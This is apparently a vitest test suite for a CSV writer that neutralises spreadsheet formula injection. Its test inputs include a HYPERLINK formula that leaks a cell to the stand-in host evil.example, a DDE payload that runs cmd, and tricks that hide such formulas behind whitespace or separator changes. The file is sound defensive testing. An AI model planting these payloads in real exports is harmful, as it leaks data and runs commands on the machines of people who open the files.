import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';
import { readCsv } from './testing/read-csv.ts';

describe('the CSV writer', () => {
  it('neutralises every text a spreadsheet would run as a formula, with a leading quote', () => {
    for (const formula of [
      '=HYPERLINK("https://evil.example/?leak="&B2,"x")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ]) {
      const [[cell]] = readCsv(toCsv([[formula]])) as [[string]];
      expect(cell, JSON.stringify(formula)).toBe(`'${formula}`);
    }
  });

  it('quotes a cell with a comma, a semicolon or a tab whatever the separator, a quote or a line break, and nothing else', () => {
    for (const separator of [',', ';'] as const) {
      const line = (cell: string) => toCsv([[cell]], { separator });
      expect(line('a,b')).toBe('"a,b"\n');
      expect(line('a;b')).toBe('"a;b"\n');
      expect(line('a\tb')).toBe('"a\tb"\n');
      expect(line('say "hi"')).toBe('"say ""hi"""\n');
      expect(line('two\nlines')).toBe('"two\nlines"\n');
      expect(line('bare\rreturn')).toBe('"bare\rreturn"\n');
      expect(line('line\u2028separator')).toBe('"line\u2028separator"\n');
      expect(line('Gemeente Utrecht')).toBe('Gemeente Utrecht\n');
    }
    expect(csvCell('')).toBe('');
  });

  it('neutralises a formula behind the blanks a spreadsheet trims', () => {
    for (const blank of [' ', '  ', '\n', '\r\n', '\u3000', '\u00A0', '\u200B', '\uFEFF', ' \n\u3000']) {
      for (const start of ['=', '+', '-', '@', '\uFF1D']) {
        const text = `${blank}${start}HYPERLINK("https://evil.example/?leak="&B2)`;
        const [[cell]] = readCsv(toCsv([[text]])) as [[string]];
        expect(cell, JSON.stringify(text)).toBe(`'${text}`);
      }
    }
    expect(csvCell(' Gemeente Utrecht')).toBe(' Gemeente Utrecht');
  });

  it('leaves no live formula in any cell when a file is split on the other separator too', () => {
    // The attack of a name like "Gemeente Utrecht,=1+1" in the citizens' (;) CSV, or "Haarlem;=1+1" in
    // the auditor's (,) one: a spreadsheet that splits on the other character gets a last cell "=1+1".
    const names = ['Gemeente Utrecht,=1+1', 'Haarlem;=1+1', 'Wmo\t@SUM(1)', 'a, -2+3', 'b; +1', 'c,\u3000=1'];
    for (const written of [',', ';'] as const) {
      const csv = toCsv([names, names], { separator: written });
      for (const read of [',', ';', '\t']) {
        const live = readCsv(csv, read)
          .flat()
          .filter((cell) => /^[=+\-@]/.test(cell.replace(/^\s+/u, '')));
        expect(live, `written with ${written}, read with ${JSON.stringify(read)}`).toEqual([]);
      }
      expect(readCsv(csv, written)[0]).toEqual(names);
    }
  });

  it('writes numbers as numbers, a negative one too, and texts that only contain = + - @ as they are', () => {
    expect(toCsv([[-3, 0, 12.5, 'a-b', 'x=y', 'mail@example.nl']])).toBe('-3,0,12.5,a-b,x=y,mail@example.nl\n');
  });

  it('ends every row, with the BOM and CRLF the Dutch spreadsheets want when asked', () => {
    expect(
      toCsv([
        ['a', 1],
        ['b', 2],
      ]),
    ).toBe('a,1\nb,2\n');
    expect(toCsv([['é', 'x;y', 'z']], { separator: ';', lineEnd: '\r\n', bom: true })).toBe('\uFEFFé;"x;y";z\r\n');
    expect(toCsv([])).toBe('');
  });

  it('reads back as the cells it was given (after the neutralising quote)', () => {
    const rows = [
      ['naam', 'opmerking'],
      ['Gemeente "Zuid", afdeling\r\nnoord', '=1+1'],
    ];
    expect(readCsv(toCsv(rows))).toEqual([rows[0], ['Gemeente "Zuid", afdeling\r\nnoord', "'=1+1"]]);
  });
});
